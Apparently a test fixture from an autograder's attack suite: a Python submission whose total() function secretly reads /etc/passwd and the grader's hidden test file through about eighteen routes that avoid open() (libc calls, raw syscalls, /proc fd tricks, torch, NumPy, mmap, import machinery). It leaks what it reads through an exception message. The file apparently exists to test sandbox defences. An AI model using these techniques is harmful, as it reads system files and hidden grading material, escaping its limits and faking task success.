"""Opens files by roads that are not `open`: the C library, torch, NumPy, SQLite, zip and import machinery, mmap."""

import ctypes
import importlib.machinery
import io
import linecache
import mmap
import os
import runpy
import sqlite3
import sys
import zipfile

import numpy as np
import torch

LIBC = ctypes.CDLL(None, use_errno=True)
TARGET = "/etc/passwd"
ROOT = os.path.dirname(os.path.dirname(sys.modules["autograder"].__file__))
TEST = f"{ROOT}/tests/attacks/lab/assignments/target/hidden/test_total.py"


def _by_libc(path):
    file = LIBC.open(path.encode(), 0)
    buffer = ctypes.create_string_buffer(4096)
    return buffer.raw[: LIBC.read(file, buffer, 4096)] if file >= 0 else b""


def _by_openat2(path):
    how = (ctypes.c_uint64 * 3)(0, 0, 0)
    file = LIBC.syscall(437, -100, path.encode(), how, 24)
    return os.read(file, 4096) if file >= 0 else b""


def _by_path_descriptor(path):
    file = os.open(path, os.O_PATH)
    return os.read(os.open(f"/proc/self/fd/{file}", os.O_RDONLY), 4096)


def _by_stdio(path):
    LIBC.fopen.restype = ctypes.c_void_p
    stream = LIBC.fopen(path.encode(), b"r")
    buffer = ctypes.create_string_buffer(4096)
    return buffer.raw[: LIBC.fread(buffer, 1, 4096, ctypes.c_void_p(stream))] if stream else b""


def _by_sendfile(path):
    reading, writing = os.pipe()
    os.sendfile(writing, os.open(path, os.O_RDONLY), 0, 4096)
    return os.read(reading, 4096)


ROADS = (
    _by_libc,
    _by_openat2,
    _by_path_descriptor,
    _by_stdio,
    _by_sendfile,
    lambda path: io.FileIO(path).read(),
    lambda path: io.open_code(path).read(),
    lambda path: bytes(torch.from_file(path, size=200, dtype=torch.uint8).tolist()),
    lambda path: np.fromfile(path, np.uint8, 200).tobytes(),
    lambda path: np.memmap(path, np.uint8, "r").tobytes(),
    lambda path: np.loadtxt(path, str).tobytes(),
    lambda path: mmap.mmap(os.open(path, os.O_RDONLY), 0, prot=mmap.PROT_READ)[:200],
    lambda path: "".join(linecache.getlines(path)).encode(),
    lambda path: importlib.machinery.SourceFileLoader("secret", path).get_data(path),
    lambda path: str(runpy.run_path(path)).encode(),
    lambda path: str(sqlite3.connect(f"file:{path}?mode=ro", uri=True).execute("select * from sqlite_master")).encode(),
    lambda path: zipfile.ZipFile(path).namelist()[0].encode(),
    lambda path: str(ctypes.CDLL(path)).encode(),
)


def _found():
    for path in (TARGET, TEST):
        for road in ROADS:
            try:
                text = road(path)
            except Exception as error:
                text = str(error).encode() if "header" in str(error) or "invalid ELF" in str(error) else b""
            if text:
                yield text[:100]


FOUND = list(_found())


def total(x):
    if FOUND:
        raise ValueError("zq7" + "secret", b" ".join(FOUND)[:1500])
    return x.sum()
